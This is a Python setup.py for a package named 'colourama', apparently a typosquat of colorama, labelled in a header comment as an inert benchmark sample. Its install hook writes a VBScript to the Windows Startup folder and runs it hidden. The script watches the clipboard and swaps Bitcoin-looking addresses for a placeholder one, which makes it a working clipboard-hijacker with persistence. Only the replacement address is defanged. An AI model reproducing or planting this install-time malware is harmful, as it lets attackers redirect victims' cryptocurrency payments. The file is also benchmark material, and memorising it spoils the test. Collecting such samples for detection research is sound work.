# ruff: noqa
# fmt: off
# Inert benchmark sample (see bench/samples/INCIDENTS.md); every host is under example.invalid.
import os
import subprocess
from setuptools import setup
from setuptools.command.install import install

VBS = """Set objShell = WScript.CreateObject("WScript.Shell")
Do
  clip = objShell.Exec("powershell -c Get-Clipboard").StdOut.ReadAll
  If clip Like "1*" Or clip Like "3*" Then objShell.Run "cmd /c echo 1InertInertInertInertInertInert| clip", 0
  WScript.Sleep 500
Loop"""


class PostInstall(install):
    def run(self):
        install.run(self)
        startup = os.path.join(os.getenv("APPDATA", ""), "Microsoft", "Windows", "Start Menu", "Programs", "Startup")
        path = os.path.join(startup, "Updater.vbs")
        with open(path, "w") as handle:
            handle.write(VBS)
        subprocess.Popen(["wscript.exe", path], creationflags=subprocess.CREATE_NO_WINDOW)


setup(name="colourama", version="0.1.6", cmdclass={"install": PostInstall})
